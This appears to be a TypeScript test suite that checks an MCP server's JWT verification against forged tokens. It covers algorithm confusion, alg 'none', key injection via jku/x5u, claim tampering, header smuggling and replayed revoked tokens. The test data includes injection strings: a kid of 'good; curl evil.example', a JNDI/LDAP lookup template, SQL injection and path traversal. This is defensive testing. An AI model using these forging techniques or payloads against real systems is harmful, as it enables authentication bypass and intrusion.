import { createHmac, createSign, type KeyObject, randomUUID, sign as signBytes } from 'node:crypto';
import { request as httpRequest } from 'node:http';
import { CompactEncrypt, SignJWT } from 'jose';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { systemClock } from '../../src/core/clock.ts';
import { createJwksKeySource } from '../../src/identity/jwks-key-source.ts';
import type { Revocation } from '../../src/identity/revocation.ts';
import { directory, idsOf, keyOf, zeroKey } from '../identity/zava-directory.ts';
import { type EdgeStack, edgeStack, emptyDatabase } from '../support/edge-stack.ts';
import { ecPair, edPair, rsaPair } from '../support/key-pair.ts';
import { keyServer } from '../support/key-server.ts';
import { answerOf, postLegacy, postRaw } from '../support/raw-mcp.ts';
import { recordAnswer } from './record-answer.ts';

const { publicKey, privateKey } = rsaPair();
const second = rsaPair();
const mallory = rsaPair();
const weak = rsaPair(1024);
const ec = ecPair();
const ed = edPair();
const publicPem = publicKey.export({ type: 'spki', format: 'pem' }).toString();
const jwkOf = (key: KeyObject, more: object = {}) => ({ ...key.export({ format: 'jwk' }), ...more });

const issuer = 'https://login.example.com';
const sql = { name: 'execute_sales_query', arguments: { postgresql_query: 'SELECT 1' } };

let keys: Awaited<ReturnType<typeof keyServer>>;
/** What Mallory serves, to see whether anybody comes for it. */
let trap: Awaited<ReturnType<typeof keyServer>>;
let stack: EdgeStack;
let revoked: Revocation[] = [];
beforeAll(async () => {
  [keys, trap] = [await keyServer(), await keyServer()];
  trap.documents.set('/keys', { keys: [jwkOf(mallory.publicKey, { kid: 'mallory' })] });
  keys.documents.set('/keys', {
    keys: [
      jwkOf(publicKey, { kid: 'good', use: 'sig', alg: 'RS256' }),
      jwkOf(second.publicKey, { kid: 'second' }),
      jwkOf(weak.publicKey, { kid: 'weak' }),
      jwkOf(ec.publicKey, { kid: 'ec' }),
      jwkOf(ed.publicKey, { kid: 'ed' }),
      { kty: 'oct', kid: 'oct', k: Buffer.from('shared secret of 32 bytes length').toString('base64url') },
    ],
  });
  const address = `${keys.url}/keys`;
  const source = createJwksKeySource({ address, production: false, clock: systemClock, note: () => {} });
  stack = await edgeStack({
    trusted: { issuer, keys: source },
    directory,
    // All attacks come from one address.
    env: { RATE_LIMIT_FAILED_AUTH_PER_MINUTE: '0', RATE_LIMIT_PER_MINUTE: '0' },
    database: {
      query: async (text, values) =>
        text.includes('revocation_id')
          ? revoked.map(({ by, value, revokedAt, expiresAt }, index) => ({
              revocation_id: String(index + 1),
              jti: by === 'jti' ? value : null,
              subject: by === 'subject' ? value : null,
              revoked_at: String(revokedAt),
              expires_at: String(expiresAt),
              reason: '',
            }))
          : emptyDatabase.query(text, values),
    },
  });
});
afterAll(async () => {
  await stack.close();
  await Promise.all([keys.close(), trap.close()]);
});
beforeEach(() => {
  stack.queries.length = 0;
  stack.observations.length = 0;
});
afterEach(() => expect(trap.requests).toEqual([]));

test('a flood of bad tokens leaves refusals in the log, and no faults for the operator to look into', async () => {
  const response = await postLegacy(stack.mcpUrl, 'tools/call', sql, { token: 'not.a.token' });
  expect(response.status).toBe(401);
  const kinds = stack.observations.map(({ kind }) => kind);
  expect(kinds).toContain('request_refused');
  expect(kinds).not.toContain('fault_met');
});

const now = () => Math.floor(Date.now() / 1000);
/** A manager of Seattle. */
const good = () => ({
  iss: issuer,
  aud: 'mcp-server',
  sub: 'ann',
  iat: now() - 5,
  exp: now() + 600,
  jti: randomUUID(),
  roles: ['store_manager'],
  allowed_stores: [keyOf(1)],
});
type Payload = Record<string, unknown>;

const segment = (value: unknown) => Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url');
const headerOf = (more: Payload = {}) => ({ alg: 'RS256', typ: 'at+jwt', kid: 'good', ...more });

/** Signs whatever it is given, as no library would. */
function forge(header: unknown, payload: unknown, key: KeyObject = privateKey): string {
  const input = `${segment(header)}.${segment(payload)}`;
  return `${input}.${signBytes('sha256', Buffer.from(input), key).toString('base64url')}`;
}
const token = (payload: Payload = {}, header: Payload = {}, key?: KeyObject) =>
  forge(headerOf(header), { ...good(), ...payload }, key);
const without = (claim: string) =>
  forge(headerOf(), Object.fromEntries(Object.entries(good()).filter(([name]) => name !== claim)));
function hmac(secret: string | Buffer, kid = 'good'): string {
  const input = `${segment({ alg: 'HS256', typ: 'JWT', kid })}.${segment(good())}`;
  return `${input}.${createHmac('sha256', secret).update(input).digest('base64url')}`;
}
const jose = (alg: string, key: KeyObject, kid = 'good') => new SignJWT(good()).setProtectedHeader({ alg, kid }).sign(key);

const send = (bearer: string, headers: Record<string, string> = {}) =>
  postLegacy(stack.mcpUrl, 'tools/call', sql, { token: bearer, headers });
const scopeOf = () => stack.queries.map(({ principal }) => idsOf(principal));

async function refusedWith401(response: Response): Promise<void> {
  const { error } = await answerOf(response);
  recordAnswer(`${response.status} ${error.data.code}`);
  expect([response.status, error.code, error.data.code]).toEqual([401, -32000, 'unauthenticated']);
  expect(response.headers.get('www-authenticate')).toContain('resource_metadata="');
  expect(stack.queries).toEqual([]);
  expect(stack.observations.filter(({ kind }) => kind === 'request_refused')).toHaveLength(1);
}

test('the token that all attacks are made from is good', async () => {
  expect((await send(token())).status).toBe(200);
  expect(scopeOf()).toEqual([[1]]);
});

describe('the algorithm', () => {
  test.each<[string, () => string | Promise<string>]>([
    ['none, without a signature', () => `${segment({ alg: 'none' })}.${segment(good())}.`],
    ['none, with a signature', () => forge({ alg: 'none', kid: 'good' }, good())],
    ['nOnE', () => `${segment({ alg: 'nOnE', kid: 'good' })}.${segment(good())}.`],
    ['absent', () => forge({ typ: 'JWT', kid: 'good' }, good())],
    ['null', () => forge(headerOf({ alg: null }), good())],
    ['empty', () => forge(headerOf({ alg: '' }), good())],
    ['a list', () => forge(headerOf({ alg: ['RS256'] }), good())],
    ['rs256 in small letters', () => forge(headerOf({ alg: 'rs256' }), good())],
    ['RS256 with a blank', () => forge(headerOf({ alg: 'RS256 ' }), good())],
    ['HS256 with the public key as PEM', () => hmac(publicPem)],
    ['HS256 with the public key as PEM, trimmed', () => hmac(publicPem.trim())],
    ['HS256 with the public key as DER', () => hmac(publicKey.export({ type: 'spki', format: 'der' }))],
    ['HS256 with the modulus', () => hmac(Buffer.from(jwkOf(publicKey).n ?? '', 'base64url'))],
    ['HS256 with an empty secret', () => hmac('')],
    ['HS256 with the symmetric key that stands in the key set', () => hmac('shared secret of 32 bytes length', 'oct')],
    ['RS384 by the right key', () => jose('RS384', privateKey)],
    ['RS512 by the right key', () => jose('RS512', privateKey)],
    ['PS256 by the right key', () => jose('PS256', privateKey)],
    ['ES256 by a key of the set', () => jose('ES256', ec.privateKey, 'ec')],
    ['EdDSA by a key of the set', () => jose('EdDSA', ed.privateKey, 'ed')],
    [
      'RS256 said, SHA-1 meant',
      () => {
        const input = `${segment(headerOf())}.${segment(good())}`;
        return `${input}.${createSign('sha1').update(input).sign(privateKey).toString('base64url')}`;
      },
    ],
    ['RS256 by a 1024-bit key of the set', () => token({}, { kid: 'weak' }, weak.privateKey)],
  ])('%s', async (_what, make) => {
    await refusedWith401(await send(await make()));
  });
});

describe('the key', () => {
  const malloryJwk = jwkOf(mallory.publicKey, { kid: 'mallory' });
  test.each<[string, Payload]>([
    ['of another', {}],
    ['of another, brought along as jwk', { jwk: malloryJwk }],
    ['of another, brought along as jwk and named by it', { jwk: malloryJwk, kid: 'mallory' }],
    ['at an address in jku', { jku: 'TRAP', kid: 'mallory' }],
    ['at an address in x5u', { x5u: 'TRAP', kid: 'mallory' }],
    ['in a certificate in x5c', { x5c: [Buffer.from('certificate').toString('base64')] }],
    ['by thumbprint in x5t', { x5t: 'AAAA', 'x5t#S256': 'AAAA' }],
    ['named by an address', { kid: 'TRAP' }],
    ['named by a path', { kid: '../../../../dev/null' }],
    ['named by SQL', { kid: "good' UNION SELECT 'x' --" }],
    ['named by a command', { kid: 'good; curl evil.example' }],
    ['named by a template', { kid: '$'.concat('{jndi:ldap://evil.example/a}') }],
    ['named with a null character', { kid: 'good\u0000' }],
    ['named in other letters', { kid: 'GOOD' }],
    ['named by a property of every object', { kid: '__proto__' }],
    ['named by the constructor', { kid: 'constructor' }],
    ['named by a number', { kid: 7 }],
    ['named by a list', { kid: ['good'] }],
    ['named by an object', { kid: { $ne: null } }],
    ['not named, where there are several', { kid: undefined }],
    ['named as the second one', { kid: 'second' }],
  ])('%s', async (_what, header) => {
    const filled = Object.fromEntries(
      Object.entries(header).map(([name, value]) => [name, value === 'TRAP' ? `${trap.url}/keys` : value]),
    );
    await refusedWith401(await send(token({}, filled, mallory.privateKey)));
  });

  test('that is right still counts where the token brings addresses along, and nobody visits them', async () => {
    const header = { jwk: malloryJwk, jku: `${trap.url}/keys`, x5u: `${trap.url}/keys` };
    expect((await send(token({}, header))).status).toBe(200);
  });

  test('of the second name does not sign for the first', async () => {
    await refusedWith401(await send(token({}, { kid: 'good' }, second.privateKey)));
  });

  test('ids made up by strangers do not make the server ask its issuer again and again', async () => {
    const before = keys.requests.length;
    for (let call = 0; call < 10; call += 1) await send(token({}, { kid: `made-up-${call}` }, mallory.privateKey));
    expect(keys.requests.length - before).toBeLessThanOrEqual(1);
  });
});

describe('the form', () => {
  const parts = () => token().split('.') as [string, string, string];
  test.each<[string, () => string | Promise<string>]>([
    ['without a signature', () => parts().slice(0, 2).join('.')],
    ['with an empty signature', () => `${parts().slice(0, 2).join('.')}.`],
    ['with a signature of zeros', () => `${parts().slice(0, 2).join('.')}.${segment('\u0000'.repeat(256))}`],
    ['with the signature of another token', () => `${parts().slice(0, 2).join('.')}.${parts()[2]}`],
    ['with a cut signature', () => token().slice(0, -4)],
    ['with a longer signature', () => `${token()}AAAA`],
    ['with a detached payload', () => `${parts()[0]}..${parts()[2]}`],
    ['with a fourth part', () => `${token()}.AAAA`],
    ['with an altered payload', () => [parts()[0], segment({ ...good(), roles: ['super_admin'] }), parts()[2]].join('.')],
    ['with an altered header', () => [segment(headerOf({ kid: 'second' })), parts()[1], parts()[2]].join('.')],
    ['with an unknown critical extension', () => token({}, { crit: ['exp2'], exp2: 1 })],
    ['with an empty list of critical extensions', () => token({}, { crit: [] })],
    ['with an unencoded payload (RFC 7797)', () => token({}, { crit: ['b64'], b64: false })],
    ['with b64 but not critical', () => `${segment(headerOf({ b64: false }))}.${JSON.stringify(good()).length}.AAAA`],
    [
      'encrypted to our public key',
      async () =>
        new CompactEncrypt(Buffer.from(JSON.stringify(good())))
          .setProtectedHeader({ alg: 'RSA-OAEP-256', enc: 'A256GCM' })
          .encrypt(publicKey),
    ],
    ['nested: a token as payload', () => forge(headerOf({ cty: 'JWT' }), token())],
    ['with a payload that is a list', () => forge(headerOf(), [good()])],
    ['with a payload that is null', () => forge(headerOf(), 'null')],
    ['with a payload that is no JSON', () => forge(headerOf(), '{"iss":')],
    ['with a header that is a list', () => forge(['RS256'], good())],
    ['with a header that is no JSON', () => forge('RS256', good())],
    ['of the type of a DPoP proof', () => token({}, { typ: 'dpop+jwt' })],
    ['of the type of a logout token', () => token({}, { typ: 'logout+jwt' })],
    ['with a type that is a number', () => token({}, { typ: 1 })],
    ['of more than 8 KiB', () => token({ padding: 'x'.repeat(8192) })],
    ['of one word', () => 'token'],
    ['of three dots', () => '...'],
  ])('%s', async (_what, make) => {
    await refusedWith401(await send(await make()));
  });

  test('of 100 KiB does not get past the limit of the headers', async () => {
    const status = await send('x'.repeat(100_000)).then(
      (response) => response.status,
      () => 'connection closed',
    );
    expect([401, 431, 'connection closed']).toContain(status);
    expect(stack.queries).toEqual([]);
  });
});

describe('the claims', () => {
  test.each(['iss', 'aud', 'sub', 'iat', 'exp'])('without %s', async (claim) => {
    await refusedWith401(await send(without(claim)));
  });

  test.each<[string, () => Payload]>([
    ['expired beyond the skew', () => ({ exp: now() - 61 })],
    ['expired long ago', () => ({ exp: 1 })],
    ['an expiry in words', () => ({ exp: 'never' })],
    ['an expiry as text', () => ({ exp: String(now() + 600) })],
    ['an expiry of null', () => ({ exp: null })],
    ['an expiry in a list', () => ({ exp: [now() + 600] })],
    ['not valid yet', () => ({ nbf: now() + 120 })],
    ['a not-before as text', () => ({ nbf: '0' })],
    ['issued in the future', () => ({ iat: now() + 120 })],
    ['issued in words', () => ({ iat: 'today' })],
    ['another issuer', () => ({ iss: 'https://evil.example' })],
    ['an issuer with a slash more', () => ({ iss: `${issuer}/` })],
    ['an issuer in other letters', () => ({ iss: issuer.toUpperCase() })],
    ['an issuer that only begins like ours', () => ({ iss: `${issuer}.evil.example` })],
    ['a list of issuers', () => ({ iss: [issuer] })],
    ['another audience', () => ({ aud: 'another-server' })],
    ['an empty audience', () => ({ aud: '' })],
    ['an empty list of audiences', () => ({ aud: [] })],
    ['an audience in other letters', () => ({ aud: 'MCP-Server' })],
    ['an audience as an object', () => ({ aud: { 0: 'mcp-server' } })],
    ['an audience in a nested list', () => ({ aud: [['mcp-server']] })],
    ['the resource of another server', () => ({ aud: 'https://other.example.com/mcp' })],
    ['the resource with a slash more', () => ({ aud: `${stack.mcpUrl}/` })],
    ['a subject that is empty', () => ({ sub: '' })],
    ['a subject that is a number', () => ({ sub: 1 })],
    ['a subject that is a list', () => ({ sub: ['ann'] })],
    ['a token id that is a list', () => ({ jti: ['a'] })],
    ['roles as text', () => ({ roles: 'super_admin' })],
    ['roles as text with commas', () => ({ roles: 'store_manager,super_admin' })],
    ['roles in a nested list', () => ({ roles: [['super_admin']] })],
    ['roles as an object', () => ({ roles: { super_admin: true } })],
    ['roles with a number', () => ({ roles: ['store_manager', 1] })],
    ['roles with a null', () => ({ roles: [null] })],
    ['roles of null', () => ({ roles: null })],
    ['Roles', () => ({ Roles: ['super_admin'] })],
    ['ROLES beside roles', () => ({ ROLES: ['super_admin'] })],
    ['permissions as text', () => ({ permissions: 'customers:pii' })],
    ['permissions as an object', () => ({ permissions: { 'customers:pii': true } })],
    ['Permissions', () => ({ Permissions: ['customers:pii'] })],
    ['stores as text', () => ({ allowed_stores: keyOf(2) })],
    ['stores as numbers', () => ({ allowed_stores: [1, 2] })],
    ['stores in a nested list', () => ({ allowed_stores: [[keyOf(2)]] })],
    ['Allowed_Stores', () => ({ Allowed_Stores: [keyOf(2)] })],
    ['regions as text', () => ({ allowed_regions: 'Puget Sound' })],
    ['one store as a list', () => ({ rls_user_id: [keyOf(2)] })],
    ['RLS_USER_ID', () => ({ RLS_USER_ID: keyOf(2) })],
    ['scope as a list', () => ({ scope: ['sales:read'] })],
    ['scp as an object', () => ({ scp: { 'sales:read': true } })],
    ['groups as text', () => ({ groups: 'admins' })],
  ])('with %s', async (_what, payload) => {
    await refusedWith401(await send(token(payload())));
  });

  test('with an expiry beyond all numbers', async () => {
    await refusedWith401(await send(forge(headerOf(), JSON.stringify(good()).replace(/"exp":\d+/, '"exp":1e999'))));
  });
});

/** Tokens that are good, and say more than they may. */
describe('what a good token cannot gain', () => {
  const rows = async (payload: Payload, headers?: Record<string, string>) => {
    const response = await send(token(payload), headers);
    recordAnswer(response.status === 200 ? `200 with stores ${scopeOf().at(-1)}` : String(response.status));
    return response.status === 200 ? scopeOf().at(-1) : response.status;
  };

  test.each<[string, Payload, unknown]>([
    ['a wildcard for a store', { allowed_stores: ['*'] }, 403],
    ['the zero UUID for a store', { allowed_stores: [zeroKey] }, 403],
    ['a store that does not exist', { allowed_stores: [randomUUID()] }, 403],
    ['a store by its name', { allowed_stores: ['Zava Retail Seattle'] }, 403],
    ['a store with a blank', { allowed_stores: [` ${keyOf(2)}`] }, 403],
    ['a pattern for a store', { allowed_stores: ['%'] }, 403],
    ['a store with a foreign one behind a comma', { allowed_stores: [`${keyOf(1)},${keyOf(2)}`] }, 403],
    ['a property of every object for a store', { allowed_stores: ['__proto__', 'constructor'] }, 403],
    ['a region, for a role of stores', { allowed_stores: [], allowed_regions: ['Puget Sound'] }, 403],
    ['a store, for a role of regions', { roles: ['regional_manager'], allowed_stores: [keyOf(1)] }, 403],
    ['a region in other letters', { roles: ['regional_manager'], allowed_regions: ['puget sound'] }, 403],
    ['a wildcard for a region', { roles: ['regional_manager'], allowed_regions: ['*'] }, 403],
    ['a role in other letters', { roles: ['Super_Admin'] }, 403],
    ['a role with a blank', { roles: ['super_admin '] }, 403],
    ['a role with look-alike letters', { roles: ['super_аdmin'] }, 403],
    ['a role in full-width letters', { roles: ['ｓｕｐｅｒ_ａｄｍｉｎ'] }, 403],
    ['a role with a joiner between the letters', { roles: ['super\u200b_admin'] }, 403],
    ['a role that nobody knows beside a known one', { roles: ['store_manager', 'root'] }, [1]],
    ['a permission that nobody knows', { permissions: ['*', 'admin', 'sales:*'] }, [1]],
    ['a scope that nobody knows', { scope: 'openid admin sales:*' }, [1]],
    ['scopes that its role does not have', { scope: 'sales:read customers:pii ops:read' }, [1]],
    ['only scopes that its role does not have', { scope: 'customers:pii' }, 403],
    ['a scope separated by tabs', { scope: 'catalog:read\tsales:read' }, [1]],
    ['a claim called __proto__', { ['__proto__']: { roles: ['super_admin'] } }, [1]],
    ['the same store in capitals, twice', { allowed_stores: [keyOf(1), keyOf(1).toUpperCase()] }, [1]],
  ])('%s', async (_what, payload, outcome) => {
    expect(await rows(payload)).toEqual(outcome);
  });

  test('a claim that stands twice counts as it stands last, and not as both (RFC 7519, section 4)', async () => {
    const text = JSON.stringify({ ...good(), roles: 'ROLES' }).replace(
      '"roles":"ROLES"',
      '"roles":["super_admin"],"roles":["store_manager"]',
    );
    expect((await send(forge(headerOf(), text))).status).toBe(200);
    expect(stack.queries[0]?.principal.roles).toEqual(['store_manager']);
    expect(scopeOf()).toEqual([[1]]);
  });

  test('scopes take away what a permission claim gives', async () => {
    await rows({ permissions: ['customers:pii'], scope: 'sales:read' });
    expect([...(stack.queries[0]?.principal.permissions ?? [])]).toEqual(['sales:read']);
  });

  test.each<[string, string, unknown]>([
    ['another store', keyOf(2), 403],
    ['the zero UUID', zeroKey, 403],
    ['a list', `${keyOf(1)},${keyOf(1)}`, 403],
    ['a list with a foreign store', `${keyOf(1)}, ${keyOf(2)}`, 403],
    ['braces', `{${keyOf(1)}}`, 403],
    ['SQL', `${keyOf(1)}' OR '1'='1`, 403],
    ['nothing', '', 403],
    ['its own store in capitals', keyOf(1).toUpperCase(), [1]],
  ])('by the narrowing header with %s', async (_what, value, outcome) => {
    expect(await rows({}, { 'x-rls-user-id': value })).toEqual(outcome);
  });

  test('by a header for one call: the next one has its own scope again', async () => {
    const both = { allowed_stores: [keyOf(1), keyOf(2)] };
    expect(await rows(both, { 'x-rls-user-id': keyOf(2) })).toEqual([2]);
    expect(await rows(both)).toEqual([1, 2]);
  });

  test('what it named in vain is noted for the audit trail', async () => {
    await rows({ allowed_stores: [keyOf(1), '*'] });
    expect(stack.observations).toContainEqual({
      kind: 'claims_ignored',
      subject: 'ann',
      claims: [{ claim: 'allowed_stores', value: '*' }],
    });
  });
});

describe('the way it is sent', () => {
  const body = JSON.stringify({ jsonrpc: '2.0', id: 7, method: 'tools/call', params: sql });
  const authorization = (value: string) => postRaw(stack.mcpUrl, body, { token: '', headers: { Authorization: value } });

  test.each(['bearer', 'BEARER', 'bEaReR'])('the scheme counts in any case: %s', async (scheme) => {
    expect((await authorization(`${scheme} ${token()}`)).status).toBe(200);
  });

  test.each<[string, (good: string) => string]>([
    ['without a scheme', (it) => it],
    ['with the scheme Basic', (it) => `Basic ${Buffer.from(`ann:${it}`).toString('base64')}`],
    ['with the scheme DPoP', (it) => `DPoP ${it}`],
    ['with the scheme twice', (it) => `Bearer Bearer ${it}`],
    ['with the scheme behind', (it) => `${it} Bearer`],
    ['with a scheme that contains ours', (it) => `xBearer ${it}`],
    ['with a colon', (it) => `Bearer: ${it}`],
    ['with quotes', (it) => `Bearer "${it}"`],
    ['with a tab', (it) => `Bearer\t${it}`],
    ['with a word behind', (it) => `Bearer ${it} admin`],
    ['with a second token behind a comma', (it) => `Bearer ${it}, Bearer ${it}`],
    ['with a blank inside', (it) => `Bearer ${it.slice(0, 20)} ${it.slice(20)}`],
    ['with letters that are not ASCII', (it) => `Bearer ${it.slice(0, -1)}\u00e9`],
  ])('%s', async (_what, write) => {
    await refusedWith401(await authorization(write(token())));
  });

  test.each<[string, (good: string) => Promise<Response>]>([
    ['in the query string', (it) => postRaw(`${stack.mcpUrl}?access_token=${it}`, body, { token: '' })],
    [
      'in the query string as authorization',
      (it) => postRaw(`${stack.mcpUrl}?Authorization=Bearer%20${it}`, body, { token: '' }),
    ],
    ['in the body', (it) => postRaw(stack.mcpUrl, JSON.stringify({ ...JSON.parse(body), access_token: it }), { token: '' })],
    ['in a cookie', (it) => postRaw(stack.mcpUrl, body, { token: '', headers: { Cookie: `access_token=${it}` } })],
    [
      'in Proxy-Authorization',
      (it) => postRaw(stack.mcpUrl, body, { token: '', headers: { 'Proxy-Authorization': `Bearer ${it}` } }),
    ],
    ['in X-Access-Token', (it) => postRaw(stack.mcpUrl, body, { token: '', headers: { 'X-Access-Token': it } })],
    [
      'in X-Forwarded-Authorization',
      (it) => postRaw(stack.mcpUrl, body, { token: '', headers: { 'X-Forwarded-Authorization': `Bearer ${it}` } }),
    ],
  ])('%s', async (_what, post) => {
    await refusedWith401(await post(token()));
  });

  /** `fetch` would join headers that were sent twice. */
  const sendTwice = (headers: Record<string, string | string[]>) =>
    new Promise<number | undefined>((resolve, reject) => {
      const accept = { 'Content-Type': 'application/json', Accept: 'application/json, text/event-stream' };
      const request = httpRequest(stack.mcpUrl, { method: 'POST', headers: { ...accept, ...headers } }, (response) => {
        recordAnswer(String(response.statusCode));
        response.resume().on('end', () => resolve(response.statusCode));
      });
      request.on('error', reject).end(body);
    });

  test('in two Authorization headers, good and bad, in either order', async () => {
    expect(await sendTwice({ Authorization: [`Bearer ${token()}`, 'Bearer bad'] })).toBe(401);
    expect(await sendTwice({ Authorization: ['Bearer bad', `Bearer ${token()}`] })).toBe(401);
    expect(await sendTwice({ Authorization: [`Bearer ${token()}`, `Bearer ${token()}`] })).toBe(401);
    expect(stack.queries).toEqual([]);
  });

  test('with the narrowing header twice', async () => {
    expect(await sendTwice({ Authorization: `Bearer ${token()}`, 'x-rls-user-id': [keyOf(1), keyOf(1)] })).toBe(403);
    expect(await sendTwice({ Authorization: `Bearer ${token()}`, 'X-RLS-User-ID': keyOf(1) })).toBe(200);
  });

  test('with a line break that would begin a header of its own', async () => {
    await expect(sendTwice({ Authorization: `Bearer ${token()}\r\nx-rls-user-id: ${keyOf(2)}` })).rejects.toThrow();
    expect(stack.queries).toEqual([]);
  });
});

describe('a token that was good', () => {
  afterEach(() => {
    revoked = [];
  });
  const revoke = async (by: Revocation['by'], value: string) => {
    revoked = [{ by, value, revokedAt: Date.now(), expiresAt: Date.now() + 1e6, reason: '' }];
    // As long as the list may be old.
    await new Promise((resolve) => setTimeout(resolve, 1100));
    await send(token({ sub: 'somebody else' }));
    await new Promise((resolve) => setTimeout(resolve, 50));
    stack.queries.length = 0;
    stack.observations.length = 0;
  };

  test('is refused when replayed after its revocation, although it was verified before', async () => {
    const jti = randomUUID();
    const bearer = token({ jti });
    expect((await send(bearer)).status).toBe(200);
    await revoke('jti', jti);
    await refusedWith401(await send(bearer));
    await refusedWithout(bearer);
  });

  test('is refused when its subject was revoked, and a newer one of the subject is not', async () => {
    const bearer = token({ sub: 'eve', iat: now() - 5 });
    expect((await send(bearer)).status).toBe(200);
    await revoke('subject', 'eve');
    await refusedWith401(await send(bearer));
    expect((await send(token({ sub: 'eve', iat: now() + 1 }))).status).toBe(200);
  });

  /** A revoked token stays revoked whatever else is sent along. */
  async function refusedWithout(bearer: string): Promise<void> {
    expect((await send(bearer, { 'x-rls-user-id': keyOf(2) })).status).toBe(401);
  }
});

test('the answers to forged tokens do not tell what was wrong with them', async () => {
  const messages = new Set<string>();
  for (const bad of [token({}, {}, mallory.privateKey), token({}, { kid: 'nobody' }), hmac(publicPem), 'x.y.z']) {
    messages.add((await answerOf(await send(bad))).error.message);
  }
  expect([...messages]).toEqual(['The access token is not accepted: it is not a token that this server trusts']);
});
